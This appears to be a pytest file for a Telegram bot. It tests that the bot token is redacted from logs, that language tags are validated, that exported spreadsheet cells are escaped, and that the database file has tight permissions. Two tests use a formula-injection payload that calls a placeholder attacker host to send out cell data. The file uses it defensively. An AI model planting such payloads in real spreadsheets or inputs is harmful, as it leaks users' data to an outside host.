"""What must not leak: the token into logs, people's data into logs or spreadsheets, and
the database to other local users."""

from __future__ import annotations

import io
import logging
import os
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.db import Database
from bot.i18n import language_tag
from bot.log_privacy import REDACTED, protect_handlers
from bot.services.exports import safe_cell

TOKEN = "123456789:AAHk_secret-part-of-the-token-0123456789"


def test_the_token_never_reaches_a_log_line() -> None:
    """As python-telegram-bot words it at start-up, in a message and in a traceback."""
    stream = io.StringIO()
    logger = logging.getLogger("test.privacy")
    logger.propagate = False
    handler = logging.StreamHandler(stream)
    logger.addHandler(handler)
    protect_handlers([TOKEN], logger)
    try:
        logger.error("The token `%s` was rejected by the server.", TOKEN)
        try:
            raise RuntimeError(f"404 for https://api.telegram.org/{TOKEN}/getMe")
        except RuntimeError:
            logger.exception("start-up failed")
        secret_half = TOKEN.split(":", 1)[1]
        logger.warning("half of it: %s", secret_half)
    finally:
        logger.removeHandler(handler)
    written = stream.getvalue()
    assert TOKEN not in written and secret_half not in written
    assert written.count(REDACTED) == 3 and "RuntimeError" in written


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("en", "en"),
        ("pt-br", "pt-br"),
        ("zh-hans", "zh-hans"),
        ('=HYPERLINK("https://evil.example/"&C2,"x")', None),
        ("en\n", None),
        ("x" * 40, None),
        (None, None),
    ],
)
def test_a_client_language_is_kept_only_when_it_is_a_language_tag(
    raw: str | None, kept: str | None
) -> None:
    assert language_tag(raw) == kept


def test_exported_cells_never_run_as_formulas() -> None:
    for value in ('=HYPERLINK("https://evil.example/"&C2,"x")', "+1", "-1", "@SUM(A1)"):
        assert safe_cell(value).startswith("'")


async def test_the_database_is_readable_by_its_user_only(tmp_path: Path) -> None:
    """Created under the bot's umask, and tightened when an older version left it open."""
    path = tmp_path / "data" / "bot.sqlite3"
    path.parent.mkdir()
    path.touch()
    path.chmod(0o644)
    db = await Database.open(path)
    await db.write(lambda u: u.audit.record(1, "test", "x", datetime.now(UTC)))
    await db.close()
    for file in path.parent.iterdir():
        assert stat.S_IMODE(file.stat().st_mode) & 0o077 == 0, file.name
    fresh = tmp_path / "new" / "bot.sqlite3"
    previous = os.umask(0o077)
    try:
        db = await Database.open(fresh)
        await db.close()
    finally:
        os.umask(previous)
    assert stat.S_IMODE(fresh.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
